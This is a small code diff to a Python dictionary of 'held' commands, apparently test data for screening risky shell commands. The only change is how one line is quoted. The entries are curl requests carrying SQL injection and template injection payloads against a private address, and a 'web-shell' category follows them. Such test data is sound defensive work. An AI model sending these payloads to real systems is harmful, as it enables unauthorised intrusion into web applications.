@@ -49,7 +49,7 @@ HELD = {
         'curl -d "username=admin\'-- -&password=x" http://10.1.1.5/login.php',
         "curl 'http://10.1.1.5/p?id=1 AND 1=1'",
         "curl 'http://10.1.1.5:8000/hello/{{ [].__class__.__base__ }}'",
-        "curl -A \"x' OR sleep(3)-- -\" http://10.1.1.5/track",
+        'curl -A "x\' OR sleep(3)-- -" http://10.1.1.5/track',
         "curl 'http://10.1.1.5/check?u=bob%27%20or%20exists(select%201)%23'",
     ],
     "web-shell": [
